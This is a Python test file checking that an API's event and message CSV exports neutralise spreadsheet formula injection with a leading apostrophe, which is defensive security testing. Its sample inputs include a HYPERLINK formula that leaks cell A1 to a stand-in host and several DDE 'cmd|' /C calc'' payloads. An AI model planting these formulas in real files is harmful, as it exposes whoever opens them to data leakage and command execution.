"""The API's CSV exports let no spreadsheet formula through (``integrator.csv_cells``).

An upstream system posts events whose provider id starts like a formula; no destination serves
that provider, so each is accepted unrouted and listed by ``GET /api/v1/events.csv``, where its
cell gets a leading apostrophe. Tab and carriage return cannot lead a posted id (intake strips
the whitespace around every text), so those two are written to the store directly; the
messages CSV is checked the same way.
"""

from __future__ import annotations

import copy
import csv
import io
import uuid
from typing import Any

import httpx

from integrator.csv_cells import FORMULA_START
from integrator.engine import Engine
from tests.store.factories import make_event, make_message

SENT = (
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
STORED = ("\t=1+1", "\r=1+1")


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_the_events_export_neutralises_provider_ids_posted_upstream(
    engine: Engine, api: httpx.AsyncClient, referral_data: dict[str, Any]
) -> None:
    for provider in SENT:
        event = copy.deepcopy(referral_data)
        event["event_id"] = str(uuid.uuid4())
        event["provider"]["id"] = provider
        posted = await api.post("/api/v1/events", json=event)
        assert posted.status_code in (200, 201, 202), posted.text
        assert posted.json()["messages"] == []  # no destination serves it: unrouted
    for provider in STORED:
        assert await engine.store.accept_event(make_event(provider_id=provider), [])

    exported = await api.get("/api/v1/events.csv", params={"unrouted": "true", "limit": 100})
    assert exported.status_code == 200, exported.text
    rows = table(exported.text)
    assert {row["provider"] for row in rows} == {"'" + value for value in (*SENT, *STORED)}
    assert not any(cell.startswith(FORMULA_START) for row in rows for cell in row.values())


async def test_the_messages_export_neutralises_every_cell(
    engine: Engine, api: httpx.AsyncClient
) -> None:
    errors = [start + "1+cmd|' /C calc'!A0" for start in FORMULA_START]
    for error in errors:
        message = make_message(destination_id="noord")
        assert await engine.store.accept_event(make_event(), [message])
        await engine.store.set_status(message.id, "dead", last_error=error)

    exported = await api.get("/api/v1/messages.csv", params={"status": "dead"})
    assert exported.status_code == 200, exported.text
    assert {row["last_error"] for row in table(exported.text)} == {"'" + e for e in errors}
